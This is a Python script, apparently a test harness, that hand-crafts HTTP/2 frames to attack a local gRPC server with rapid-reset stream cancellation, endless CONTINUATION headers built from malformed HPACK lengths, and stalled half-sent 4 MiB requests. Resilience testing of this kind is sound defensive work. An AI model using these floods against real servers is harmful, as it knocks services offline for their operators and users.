"""HTTP/2 by hand, for what no library would send."""

import socket
import struct
import sys
import time

DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0, 1, 3, 4, 7, 8, 9)
# What attackers come from; honest clients of the tests have another.
ADDRESS = "127.0.0.2"
END_STREAM, END_HEADERS, ACK = 1, 4, 1
MAX_CONCURRENT_STREAMS, INITIAL_WINDOW = 3, 4


def frame(kind, flags, stream, payload=b""):
    return (struct.pack(">I", len(payload))[1:] +
            struct.pack(">BBI", kind, flags, stream) + payload)


def literal(name, value):
    """A header of HPACK that is not indexed."""
    return b"".join([b"\0"] + [
        struct.pack("B", len(text)) + text.encode() for text in (name, value)
    ])


def request_headers(path):
    return b"".join(
        literal(name, value)
        for name, value in ((":method", "POST"), (":scheme", "http"),
                            (":path", path), (":authority", "test"),
                            ("content-type", "application/grpc"),
                            ("te", "trailers")))


class Connection:
    """A client's side. What the server says is taken by `pump`."""

    def __init__(self, port):
        self.socket = socket.create_connection(
            ("127.0.0.1", port), source_address=(ADDRESS, 0))
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.stream_limit = 2**31
        self.window = 65535
        self.is_open = True
        self.ended = set()  # streams
        self._initial_window = 65535
        self._windows = {}  # what each stream may still send
        self._next = 1
        self._input = b""
        self._has_settings = False
        self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" +
                  frame(SETTINGS, 0, 0))
        self.socket.setblocking(False)
        while not self._has_settings and self.is_open:
            self.pump()
            time.sleep(0.001)

    def send(self, octets):
        """Waits until the server has taken them, while it takes any."""
        self.socket.settimeout(10)
        try:
            self.socket.sendall(octets)
        except OSError:
            self.is_open = False
        self.socket.setblocking(False)

    def open(self, path):
        """A stream whose headers are sent."""
        stream, self._next = self._next, self._next + 2
        self._windows[stream] = self._initial_window
        self.send(frame(HEADERS, END_HEADERS, stream, request_headers(path)))
        return stream

    def send_data(self, stream, size):
        """Up to `size` bytes, as many as the server lets; how many they were."""
        size = min(size, 16384, self.window, self._windows.get(stream, 0))
        if size <= 0 or stream in self.ended:
            return 0
        # The first say how long the message is: 4 MiB less five bytes.
        first = self._windows[stream] == self._initial_window
        body = (struct.pack(">BI", 0, (4 << 20) - 5) if first else b"")
        self.send(frame(DATA, 0, stream, body.ljust(size, b"\0")))
        self.window -= size
        self._windows[stream] -= size
        return size

    def pump(self):
        try:
            while self.is_open:
                octets = self.socket.recv(65536)
                self.is_open = bool(octets)
                self._input += octets
        except BlockingIOError:
            pass
        except OSError:
            self.is_open = False
        while len(self._input) >= 9:
            length = int.from_bytes(self._input[:3], "big")
            if len(self._input) < 9 + length:
                break
            kind, flags, stream = struct.unpack(">BBI", self._input[3:9])
            self._take(kind, flags, stream, self._input[9:9 + length])
            self._input = self._input[9 + length:]

    def _take(self, kind, flags, stream, payload):
        if kind == SETTINGS and not flags & ACK:
            self._has_settings = True
            for i in range(0, len(payload), 6):
                name, value = struct.unpack(">HI", payload[i:i + 6])
                if name == MAX_CONCURRENT_STREAMS:
                    self.stream_limit = value
                if name == INITIAL_WINDOW:
                    for open_stream in self._windows:
                        self._windows[open_stream] += (
                            value - self._initial_window)
                    self._initial_window = value
            self.send(frame(SETTINGS, ACK, 0))
        elif kind == WINDOW_UPDATE:
            more = struct.unpack(">I", payload)[0]
            if stream == 0:
                self.window += more
            elif stream in self._windows:
                self._windows[stream] += more
        elif kind == RST_STREAM or (kind == HEADERS and flags & END_STREAM):
            self.ended.add(stream)
        elif kind == GOAWAY:
            self.is_open = False


def half_requests(connections, path, streams):
    """Sends requests of 4 MiB but for their last bytes, `streams` at a time on
    each connection, until nothing more is taken; how many bytes were."""
    left = [{connection.open(path): (4 << 20) - 20000
             for _ in range(min(streams, connection.stream_limit))}
            for connection in connections]
    sent = 0
    last = time.monotonic()
    while time.monotonic() - last < 1:
        for connection, sizes in zip(connections, left):
            connection.pump()
            for stream in sizes:
                size = connection.send_data(stream, sizes[stream])
                sizes[stream] -= size
                sent += size
                if size > 0:
                    last = time.monotonic()
        time.sleep(0.001)
    return sent


def rapid_reset(connection, path, count):
    """Opens streams and takes each back at once; how many were taken."""
    headers = request_headers(path)
    batch = 500
    for sent in range(0, count, batch):
        connection.pump()
        if not connection.is_open:
            return sent
        frames = []
        for _ in range(batch):
            stream, connection._next = connection._next, connection._next + 2
            frames.append(frame(HEADERS, END_HEADERS | END_STREAM, stream,
                                headers))
            frames.append(frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
        connection.send(b"".join(frames))
    return count


def endless_header(connection, count, begin):
    """One header whose end never comes, in `count` frames of 16 KiB; how many
    were taken. `begin`: its first bytes, which the others, all 0x80, go on."""
    stream, connection._next = connection._next, connection._next + 2
    connection.send(frame(HEADERS, 0, stream, begin.ljust(16384, b"\x80")))
    for sent in range(count):
        connection.pump()
        if not connection.is_open:
            return sent
        connection.send(frame(CONTINUATION, 0, stream, b"\x80" * 16384))
    return count


# A string that is four gigabytes long, and a length whose digits do not end.
ENDLESS_STRING = b"\0\x7f\x80\xff\xff\xff\x0f"
ENDLESS_VARINT = b"\0\x7f"


def main():
    """PORT ATTACK: attacks, says how far it came, and stays connected until its
    input ends."""
    port, attack = int(sys.argv[1]), sys.argv[2]
    field = "/geodesic.v1.QuestionService/ComputeField"
    connections = [Connection(port) for _ in range(4)]
    if attack == "half-requests":
        result = half_requests(connections, field, 40)
    elif attack == "rapid-reset":
        result = [rapid_reset(c, field, 20000) for c in connections]
    else:
        begin = {"endless-string": ENDLESS_STRING,
                 "endless-varint": ENDLESS_VARINT}[attack]
        result = [endless_header(c, 2000, begin) for c in connections]
    print(attack, result, flush=True)
    sys.stdin.read()


if __name__ == "__main__":
    main()
